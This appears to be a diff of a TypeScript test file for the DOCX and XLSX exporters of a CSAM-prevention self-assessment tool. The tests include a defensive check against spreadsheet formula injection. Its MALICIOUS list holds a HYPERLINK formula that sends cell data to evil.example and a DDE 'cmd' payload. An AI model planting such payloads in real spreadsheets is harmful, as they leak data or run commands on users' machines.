@@ -30,13 +30,23 @@ function findSoffice(): string | null {
 }
 const SOFFICE = findSoffice();
 if (SOFFICE === null) {
-  if (process.env['CI'] === 'true') throw new Error('LibreOffice (soffice) is not installed; CI must install libreoffice-writer and libreoffice-calc (.ci/run).');
-  console.warn('\n\n*** LibreOffice (soffice) is not installed: the office read-back checks are SKIPPED locally. Install libreoffice-writer and libreoffice-calc. ***\n\n');
+  if (process.env['CI'] === 'true')
+    throw new Error('LibreOffice (soffice) is not installed; CI must install libreoffice-writer and libreoffice-calc (.ci/run).');
+  console.warn(
+    '\n\n*** LibreOffice (soffice) is not installed: the office read-back checks are SKIPPED locally. Install libreoffice-writer and libreoffice-calc. ***\n\n',
+  );
 }
 const withLibreOffice = SOFFICE === null ? it.skip : it;
 
 /** Text a spreadsheet user might paste, or an attacker type, to make a cell run. */
-const MALICIOUS = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
+const MALICIOUS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+];
 /** Characters XML 1.0 cannot hold, bidi controls and very long text. */
 const FUZZ = {
   nul: 'before\u0000after',
@@ -128,7 +138,10 @@ let dir: string;
 beforeAll(async () => {
   const models = { sample, draft, stress, malicious, fuzz };
   for (const [name, model] of Object.entries(models)) {
-    [docx[name], xlsx[name]] = await Promise.all([renderBoardPackDocx(model, sourceOf(model)), renderRegistersXlsx(model, sourceOf(model))]);
+    [docx[name], xlsx[name]] = await Promise.all([
+      renderBoardPackDocx(model, sourceOf(model)),
+      renderRegistersXlsx(model, sourceOf(model)),
+    ]);
   }
   if (SOFFICE === null) return;
   dir = mkdtempSync(join(tmpdir(), 'hoh-office-'));
@@ -140,7 +153,16 @@ beforeAll(async () => {
     const files = Object.keys(ext === 'docx' ? docx : xlsx).map((n) => join(dir, `${n}.${ext}`));
     const result = spawnSync(
       SOFFICE,
-      [`-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', '--norestore', '--convert-to', filter, '--outdir', out, ...files],
+      [
+        `-env:UserInstallation=file://${join(dir, 'profile')}`,
+        '--headless',
+        '--norestore',
+        '--convert-to',
+        filter,
+        '--outdir',
+        out,
+        ...files,
+      ],
       { encoding: 'utf8', timeout: 120_000 },
     );
     if (result.status !== 0) throw new Error(`soffice --convert-to ${filter} failed (${result.status}): ${result.stderr}`);
@@ -161,6 +183,17 @@ afterAll(() => {
   if (dir && existsSync(dir)) rmSync(dir, { recursive: true, force: true });
 });
 
+// mammoth reads each document once; several tests look at the same text.
+const textCache = new Map<string, Promise<string>>();
+const mammothText = (name: string): Promise<string> => {
+  if (!textCache.has(name))
+    textCache.set(
+      name,
+      mammoth.extractRawText({ buffer: docx[name]! }).then((r) => r.value),
+    );
+  return textCache.get(name)!;
+};
+const mammothHtml = async (name: string): Promise<string> => (await mammoth.convertToHtml({ buffer: docx[name]! })).value;
 
 function expectInOrder(text: string, parts: readonly string[]): void {
   let last = -1;
@@ -173,19 +206,25 @@ function expectInOrder(text: string, parts: readonly string[]): void {
 
 describe('renderBoardPackDocx: read back by mammoth', () => {
   it('has real headings, in the PDF order: board summary, heatmap, exceptions, critical controls, concerns, trend, then appendices A–G with integrity last', async () => {
-    const { value: html } = await mammoth.convertToHtml({ buffer: docx['sample']! });
+    const html = await mammothHtml('sample');
     const h1 = [...html.matchAll(/<h1>(.*?)<\/h1>/g)].map((m) => m[1]);
     expect(h1).toEqual(boardPackSections(sample));
     expect(h1[2]).toBe(BOARD_PACK_SECTIONS.exceptionsSigned);
     const h2 = [...html.matchAll(/<h2>(.*?)<\/h2>/g)].map((m) => m[1]!);
-    expectInOrder(h2.join('\n'), [attestationHeadline(sample).title, BOARD_PACK_SECTIONS.decisions, BOARD_PACK_SECTIONS.risks, BOARD_PACK_SECTIONS.narrative, BOARD_PACK_SECTIONS.why]);
+    expectInOrder(h2.join('\n'), [
+      attestationHeadline(sample).title,
+      BOARD_PACK_SECTIONS.decisions,
+      BOARD_PACK_SECTIONS.risks,
+      BOARD_PACK_SECTIONS.narrative,
+      BOARD_PACK_SECTIONS.why,
+    ]);
     expect(html).toContain('<table>');
-    const { value: draftHtml } = await mammoth.convertToHtml({ buffer: docx['draft']! });
+    const draftHtml = await mammothHtml('draft');
     expect([...draftHtml.matchAll(/<h1>(.*?)<\/h1>/g)].map((m) => m[1])).toEqual(boardPackSections(draft));
   });
 
   it('prints the model’s numbers: the score rounded as the PDF prints it, exception counts, top risks and every action number', async () => {
-    const { value: text } = await mammoth.extractRawText({ buffer: docx['sample']! });
+    const text = await mammothText('sample');
     expect(text).toContain(`${round(sample.summary.score)} / 100`);
     const headline = attestationHeadline(sample);
     expect(headline.status).toBe('qualified');
@@ -195,32 +234,37 @@ describe('renderBoardPackDocx: read back by mammoth', () => {
     const exceptions = text.slice(text.indexOf(BOARD_PACK_SECTIONS.exceptionsSigned), text.indexOf(BOARD_PACK_SECTIONS.critical));
     for (const e of sample.attestation.exceptions) expect(exceptions).toContain(e.message);
     const page1 = text.slice(0, text.indexOf(BOARD_PACK_SECTIONS.heatmap));
-    for (const r of topRisks(sample, 5)) expect(page1).toMatch(new RegExp(`${r.number}\\s+[^\\n]+\\s+${r.owner ?? 'Unassigned'}\\s+${formatDate(r.dueDate)}`));
+    for (const r of topRisks(sample, 5))
+      expect(page1).toMatch(new RegExp(`${r.number}\\s+[^\\n]+\\s+${r.owner ?? 'Unassigned'}\\s+${formatDate(r.dueDate)}`));
     const plan = text.slice(text.indexOf(BOARD_PACK_SECTIONS.remediation));
     const numbers = actionsByHorizon(sample).flatMap((h) => h.actions.map((a) => a.number));
     expect(numbers).toHaveLength(sample.actions.length);
     expectInOrder(plan, numbers);
     const heatmap = text.slice(text.indexOf(BOARD_PACK_SECTIONS.heatmap), text.indexOf(BOARD_PACK_SECTIONS.exposure));
     for (const d of sample.domains) {
-      expect(heatmap).toMatch(new RegExp(`${d.domainId} · [^\\n]+\\s+${d.score === null ? 'n/a' : `${round(d.score)} ${BAND_LABEL[d.band!]}`}\\s`));
+      expect(heatmap).toMatch(
+        new RegExp(`${d.domainId} · [^\\n]+\\s+${d.score === null ? 'n/a' : `${round(d.score)} ${BAND_LABEL[d.band!]}`}\\s`),
+      );
     }
     for (const f of sample.figures.slice(0, 3)) expect(page1).toContain(f.statement);
   });
 
   it('marks itself as an unsigned working copy of the signed PDF (id, SHA-256, issue date) on page 1 and in the page header', async () => {
-    const { value: text } = await mammoth.extractRawText({ buffer: docx['sample']! });
+    const text = await mammothText('sample');
     const marking = `Unsigned working copy of signed PDF report ${sample.reportId}, SHA-256 ${PDF_SHA}, issued 30 Jun 2026`;
     expect(text.slice(0, text.indexOf(BOARD_PACK_SECTIONS.summary))).toContain(marking);
     const document = zipText(docx['sample']!, 'word/document.xml');
     const headerRef = /<w:headerReference w:type="default" r:id="(rId\d+)"\/>/.exec(document);
     expect(headerRef).not.toBeNull();
     const rels = zipText(docx['sample']!, 'word/_rels/document.xml.rels');
-    const target = new RegExp(`Id="${headerRef![1]}"[^>]*Target="([^"]+)"`).exec(rels) ?? new RegExp(`Target="([^"]+)"[^>]*Id="${headerRef![1]}"`).exec(rels);
+    const target =
+      new RegExp(`Id="${headerRef![1]}"[^>]*Target="([^"]+)"`).exec(rels) ??
+      new RegExp(`Target="([^"]+)"[^>]*Id="${headerRef![1]}"`).exec(rels);
     expect(zipText(docx['sample']!, `word/${target![1]}`)).toContain(marking);
   });
 
   it('says "not ready to attest" for an unsigned assessment', async () => {
-    const { value: text } = await mammoth.extractRawText({ buffer: docx['draft']! });
+    const text = await mammothText('draft');
     expect(text).toContain(attestationHeadline(draft).title);
     expect(text).toContain(BOARD_PACK_SECTIONS.exceptionsNotSigned);
     expect(text).toContain('Not signed.');
@@ -244,7 +288,9 @@ describe('renderBoardPackDocx: the file itself', () => {
     expect(core).toContain(`<dc:title>Working copy — CSAM prevention self-assessment — ${sample.organisation.name}</dc:title>`);
     expect(core).toContain('<dc:language>en-GB</dc:language>');
     expect(core).toContain('<dc:creator>Hand on Heart</dc:creator>');
-    expect(core).toContain(`<dcterms:created xsi:type="dcterms:W3CDTF">${new Date(sample.issuedAt).toISOString().replace('.000', '')}</dcterms:created>`);
+    expect(core).toContain(
+      `<dcterms:created xsi:type="dcterms:W3CDTF">${new Date(sample.issuedAt).toISOString().replace('.000', '')}</dcterms:created>`,
+    );
     expect(zipText(docx['sample']!, 'word/styles.xml')).toContain('w:val="en-GB"');
     expect((await renderBoardPackDocx(sample, sourceOf(sample))).equals(docx['sample']!)).toBe(true);
     expect((await renderRegistersXlsx(sample, sourceOf(sample))).equals(xlsx['sample']!)).toBe(true);
@@ -256,7 +302,7 @@ describe('renderBoardPackDocx: the file itself', () => {
   });
 
   it('writes text XML cannot hold (NUL, lone surrogates, other C0 controls) as U+FFFD, keeps bidi controls and long text, and still opens', async () => {
-    const { value: text } = await mammoth.extractRawText({ buffer: docx['fuzz']! });
+    const text = await mammothText('fuzz');
     expect(text).toContain('before\uFFFDafter');
     expect(text).toContain('high \uFFFD low \uFFFD pair 😀');
     expect(text).toContain(FUZZ.bidi);
@@ -271,18 +317,29 @@ describe('renderBoardPackDocx: the file itself', () => {
   });
 
   it('xmlSafe leaves only characters XML 1.0 allows, changing nothing else (property)', () => {
+    /* eslint-disable no-control-regex -- the characters XML 1.0 forbids */
+    const forbidden =
+      /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
+    /* eslint-enable no-control-regex */
     fc.assert(
-      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (s) => {
-        const safe = xmlSafe(s);
-        expect(safe.length).toBe(s.length);
-        // eslint-disable-next-line no-control-regex -- the characters XML 1.0 forbids
-        expect(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/.test(safe)).toBe(false);
-        expect(() => encodeURIComponent(safe)).not.toThrow(); // throws on a lone surrogate
-        // eslint-disable-next-line no-control-regex -- the characters xmlSafe may replace
-        if (!/[\u0000-\u001F\uD800-\uDFFF\uFFFE\uFFFF]/.test(s)) expect(safe).toBe(s);
-        expect(escapeXml(s)).not.toMatch(/[<>"]|&(?!amp;|lt;|gt;|quot;)/);
-      }),
-      { numRuns: 200 },
+      // UTF-16 code units from the edges that matter: C0 controls, printable ASCII with the XML
+      // specials, both surrogate halves and the noncharacters U+FFFE/U+FFFF.
+      fc.property(
+        fc
+          .array(
+            fc.oneof(fc.integer({ min: 0, max: 0x7e }), fc.integer({ min: 0xd7f0, max: 0xe010 }), fc.integer({ min: 0xfff0, max: 0xffff })),
+            { maxLength: 60 },
+          )
+          .map((units) => String.fromCharCode(...units)),
+        (s) => {
+          const safe = xmlSafe(s);
+          const unchangedWhenClean = forbidden.test(s) || safe === s;
+          return (
+            safe.length === s.length && !forbidden.test(safe) && unchangedWhenClean && !/[<>"]|&(?!amp;|lt;|gt;|quot;)/.test(escapeXml(s))
+          );
+        },
+      ),
+      { numRuns: 300 },
     );
   });
 });
@@ -303,15 +360,22 @@ describe('renderBoardPackDocx: read back by LibreOffice', () => {
 describe('renderRegistersXlsx: read back by LibreOffice as CSV', () => {
   const sheets = (name: string): Record<string, string[][]> => loCsv[name] ?? {};
 
-  withLibreOffice('has the About, Answers, Evidence register, Action plan and Exposure map sheets; About names the signed PDF and its hash', () => {
-    expect(Object.keys(sheets('sample')).sort()).toEqual([...REGISTER_SHEETS].sort());
-    const about = Object.fromEntries(sheets('sample')['About']!.slice(1).map((r) => [r[0], r[1]]));
-    expect(about['Signed PDF report ID']).toBe(sample.reportId);
-    expect(about['Signed PDF SHA-256']).toBe(PDF_SHA);
-    expect(about['Organisation']).toBe(sample.organisation.name);
-    expect(about['Bank version']).toBe(sample.bank.version);
-    expect(about['Results SHA-256']).toBe(sample.integrity.resultsSha256);
-  });
+  withLibreOffice(
+    'has the About, Answers, Evidence register, Action plan and Exposure map sheets; About names the signed PDF and its hash',
+    () => {
+      expect(Object.keys(sheets('sample')).sort()).toEqual([...REGISTER_SHEETS].sort());
+      const about = Object.fromEntries(
+        sheets('sample')
+          ['About']!.slice(1)
+          .map((r) => [r[0], r[1]]),
+      );
+      expect(about['Signed PDF report ID']).toBe(sample.reportId);
+      expect(about['Signed PDF SHA-256']).toBe(PDF_SHA);
+      expect(about['Organisation']).toBe(sample.organisation.name);
+      expect(about['Bank version']).toBe(sample.bank.version);
+      expect(about['Results SHA-256']).toBe(sample.integrity.resultsSha256);
+    },
+  );
 
   withLibreOffice('Answers: one row per question, levels, gap and evidence count as numbers, references "regime id" joined', () => {
     const [header, ...rows] = sheets('sample')['Answers']!;
@@ -330,18 +394,21 @@ describe('renderRegistersXlsx: read back by LibreOffice as CSV', () => {
     });
   });
 
-  withLibreOffice('Action plan: number first, in the PDF plan’s order, due dates as dates, uplift as numbers, overdue as of the issue date', () => {
-    const [header, ...rows] = sheets('sample')['Action plan']!;
-    expect(header![0]).toBe('Number');
-    const ordered = actionsByHorizon(sample).flatMap((h) => h.actions);
-    expect(rows.map((r) => r[0])).toEqual(ordered.map((a) => a.number));
-    ordered.forEach((a, i) => {
-      const r = rows[i]!;
-      expect(r[header!.indexOf('Due')]).toBe(a.dueDate ?? '');
-      expect(Number(r[header!.indexOf('Predicted uplift (points)')])).toBeCloseTo(a.predictedUpliftPoints, 9);
-      expect(r[header!.indexOf('Overdue')]).toBe(isOverdue(a, sample.issuedAt) ? 'Yes' : 'No');
-    });
-  });
+  withLibreOffice(
+    'Action plan: number first, in the PDF plan’s order, due dates as dates, uplift as numbers, overdue as of the issue date',
+    () => {
+      const [header, ...rows] = sheets('sample')['Action plan']!;
+      expect(header![0]).toBe('Number');
+      const ordered = actionsByHorizon(sample).flatMap((h) => h.actions);
+      expect(rows.map((r) => r[0])).toEqual(ordered.map((a) => a.number));
+      ordered.forEach((a, i) => {
+        const r = rows[i]!;
+        expect(r[header!.indexOf('Due')]).toBe(a.dueDate ?? '');
+        expect(Number(r[header!.indexOf('Predicted uplift (points)')])).toBeCloseTo(a.predictedUpliftPoints, 9);
+        expect(r[header!.indexOf('Overdue')]).toBe(isOverdue(a, sample.issuedAt) ? 'Yes' : 'No');
+      });
+    },
+  );
 
   withLibreOffice('Evidence register and Exposure map: every item once, counts equal the PDF’s', () => {
     const [, ...evidence] = sheets('sample')['Evidence register']!;
@@ -355,17 +422,20 @@ describe('renderRegistersXlsx: read back by LibreOffice as CSV', () => {
     }
   });
 
-  withLibreOffice('text that would start a formula (=HYPERLINK, +, -, @, tab, CR) stays text: prefixed with an apostrophe, no formula cell', () => {
-    const [header, ...rows] = sheets('malicious')['Action plan']!;
-    const titles = rows.map((r) => r[header!.indexOf('Title')]);
-    // LibreOffice writes a line break inside a cell as LF, whichever it was.
-    for (const text of MALICIOUS) expect(titles).toContain(`'${text.replace(/\r/g, '\n')}`);
-    const answers = sheets('malicious')['Answers']!;
-    expect(answers[1]![answers[0]!.indexOf('Question')]).toBe(`'${MALICIOUS[0]}`);
-    for (const [path, data] of Object.entries(unzipSync(new Uint8Array(xlsx['malicious']!)))) {
-      if (path.startsWith('xl/worksheets/')) expect({ path, formula: /<f[ >]/.test(strFromU8(data)) }).toEqual({ path, formula: false });
-    }
-  });
+  withLibreOffice(
+    'text that would start a formula (=HYPERLINK, +, -, @, tab, CR) stays text: prefixed with an apostrophe, no formula cell',
+    () => {
+      const [header, ...rows] = sheets('malicious')['Action plan']!;
+      const titles = rows.map((r) => r[header!.indexOf('Title')]);
+      // LibreOffice writes a line break inside a cell as LF, whichever it was.
+      for (const text of MALICIOUS) expect(titles).toContain(`'${text.replace(/\r/g, '\n')}`);
+      const answers = sheets('malicious')['Answers']!;
+      expect(answers[1]![answers[0]!.indexOf('Question')]).toBe(`'${MALICIOUS[0]}`);
+      for (const [path, data] of Object.entries(unzipSync(new Uint8Array(xlsx['malicious']!)))) {
+        if (path.startsWith('xl/worksheets/')) expect({ path, formula: /<f[ >]/.test(strFromU8(data)) }).toEqual({ path, formula: false });
+      }
+    },
+  );
 
   withLibreOffice('opens the stress and fuzz workbooks; a cell longer than Excel’s 32,767 characters is cut, NUL becomes U+FFFD', () => {
     expect(sheets('stress')['Action plan']).toHaveLength(stress.actions.length + 1);
